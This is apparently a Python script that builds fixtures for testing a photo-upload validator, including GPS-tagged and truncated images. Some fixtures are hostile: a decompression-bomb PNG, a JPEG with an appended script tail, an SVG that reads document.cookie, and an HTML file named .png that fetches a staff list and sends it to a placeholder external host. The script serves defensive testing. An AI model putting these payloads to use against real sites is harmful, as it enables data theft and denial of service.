"""Make the deliberately bad (or awkward) upload files in tests/fixtures/bad_files/.

Run: .venv/bin/python scripts/make_bad_files.py [folder]

Every file is small (the decompression bomb is ~110 KB). The outputs are committed beside the
script; tests/unit/test_photos.py checks that the script still makes the same set of files.
A file over the byte limit, and a large but acceptable photo, are made at test time.

- gps.jpg            a phone photo with EXIF GPS position, camera make, an ICC profile, XMP
                     and a comment: after upload none of it may survive
- rotated.jpg        stored landscape (red left, blue right) with EXIF orientation 6: it must
                     come out portrait, red at the top
- cmyk.jpg           a CMYK JPEG (print workflows): converted to RGB
- alpha-text.png     a PNG with transparency and a text chunk: flattened on white, no text
- jpeg-with-html-tail.jpg  a real JPEG with an HTML page appended after its end marker
- truncated.jpg      a JPEG cut off half way
- oversized.png      6000 x 5000 pixels (30 million, over the 25 million limit), 1-bit, tiny
- bomb.png           30000 x 30000 pixels (900 million) of zeros, ~100 KB: a decompression bomb
- svg-renamed.png    an SVG with a script, named .png
- html-renamed.png   an HTML page with a script, named .png
- animation.gif      a two-frame GIF
- empty.png          no bytes at all
"""

from __future__ import annotations

import io
import struct
import sys
import zlib
from pathlib import Path

from PIL import ExifTags, Image, ImageCms, ImageDraw, PngImagePlugin

FOLDER = Path(__file__).resolve().parents[1] / "tests" / "fixtures" / "bad_files"


def _scene(width: int, height: int) -> Image.Image:
    """A small picture with some detail (a gradient and shapes), fixed so files are stable."""
    image = Image.new("RGB", (width, height), (40, 120, 200))
    draw = ImageDraw.Draw(image)
    for x in range(0, width, 8):
        draw.line([(x, 0), (x, height)], fill=(40 + x % 200, 120, 200 - x % 150))
    draw.ellipse([width // 4, height // 4, 3 * width // 4, 3 * height // 4], fill=(250, 210, 60))
    return image


def gps_jpeg() -> bytes:
    exif = Image.Exif()
    exif[ExifTags.Base.Make] = "PhoneMaker"
    exif[ExifTags.Base.Model] = "Phone 12"
    exif[ExifTags.Base.ImageDescription] = "Sam's front door, 14 Acacia Avenue"
    gps = exif.get_ifd(ExifTags.IFD.GPSInfo)
    gps[ExifTags.GPS.GPSLatitudeRef] = "N"
    gps[ExifTags.GPS.GPSLatitude] = (51.0, 30.0, 26.0)
    gps[ExifTags.GPS.GPSLongitudeRef] = "W"
    gps[ExifTags.GPS.GPSLongitude] = (0.0, 7.0, 39.0)
    icc = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    xmp = (
        b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/'
        b'22-rdf-syntax-ns#"><rdf:Description xmlns:exif="http://ns.adobe.com/exif/1.0/" '
        b'exif:GPSLatitude="51,30.43N"/></rdf:RDF></x:xmpmeta>'
    )
    out = io.BytesIO()
    _scene(160, 120).save(
        out, "JPEG", quality=85, exif=exif.tobytes(), icc_profile=icc, xmp=xmp,
        comment=b"home address: 14 Acacia Avenue",
    )  # fmt: skip
    return out.getvalue()


def rotated_jpeg() -> bytes:
    image = Image.new("RGB", (120, 80), (0, 0, 255))
    image.paste((255, 0, 0), (0, 0, 60, 80))  # left half red, right half blue
    exif = Image.Exif()
    exif[ExifTags.Base.Orientation] = 6  # shown turned 90 degrees clockwise
    out = io.BytesIO()
    image.save(out, "JPEG", quality=95, exif=exif.tobytes())
    return out.getvalue()


def cmyk_jpeg() -> bytes:
    out = io.BytesIO()
    _scene(80, 60).convert("CMYK").save(out, "JPEG", quality=85)
    return out.getvalue()


def alpha_text_png() -> bytes:
    image = Image.new("RGBA", (80, 60), (0, 0, 0, 0))
    ImageDraw.Draw(image).rectangle([20, 15, 60, 45], fill=(200, 30, 30, 255))
    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", "home address: 14 Acacia Avenue")
    out = io.BytesIO()
    image.save(out, "PNG", pnginfo=info)
    return out.getvalue()


def jpeg_with_html_tail() -> bytes:
    out = io.BytesIO()
    _scene(64, 48).save(out, "JPEG", quality=80)
    return out.getvalue() + b"<html><script>alert(document.cookie)</script></html>"


def truncated_jpeg() -> bytes:
    out = io.BytesIO()
    _scene(320, 240).save(out, "JPEG", quality=90)
    data = out.getvalue()
    return data[: len(data) // 2]


def _chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def blank_png(width: int, height: int) -> bytes:
    """A valid 1-bit greyscale PNG of zeros, written row by row (never held as an image)."""
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    row = b"\x00" * (1 + (width + 7) // 8)  # filter byte, then the packed bits
    packer = zlib.compressobj(9)
    parts = [packer.compress(row) for _ in range(height)]
    parts.append(packer.flush())
    return (
        b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header) + _chunk(b"IDAT", b"".join(parts))
        + _chunk(b"IEND", b"")
    )  # fmt: skip


SVG = b"""<?xml version="1.0"?>
<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100">
  <script>alert(document.cookie)</script>
  <rect width="100" height="100" fill="red"/>
</svg>
"""
HTML = b"""<!doctype html><html><body><script>fetch('/staff/people').then(r=>r.text())
.then(t=>fetch('https://example.invalid/?'+encodeURIComponent(t)))</script></body></html>
"""


def animation_gif() -> bytes:
    frames = [Image.new("P", (40, 40), colour) for colour in (1, 2)]
    out = io.BytesIO()
    frames[0].save(out, "GIF", save_all=True, append_images=frames[1:], duration=200, loop=0)
    return out.getvalue()


def files() -> dict[str, bytes]:
    """Every bad file by name."""
    return {
        "gps.jpg": gps_jpeg(),
        "rotated.jpg": rotated_jpeg(),
        "cmyk.jpg": cmyk_jpeg(),
        "alpha-text.png": alpha_text_png(),
        "jpeg-with-html-tail.jpg": jpeg_with_html_tail(),
        "truncated.jpg": truncated_jpeg(),
        "oversized.png": blank_png(6000, 5000),
        "bomb.png": blank_png(30000, 30000),
        "svg-renamed.png": SVG,
        "html-renamed.png": HTML,
        "animation.gif": animation_gif(),
        "empty.png": b"",
    }


def main(folder: Path = FOLDER) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    for name, body in files().items():
        (folder / name).write_bytes(body)
        print(f"{name}: {len(body)} bytes")


if __name__ == "__main__":
    main(Path(sys.argv[1]) if len(sys.argv) > 1 else FOLDER)
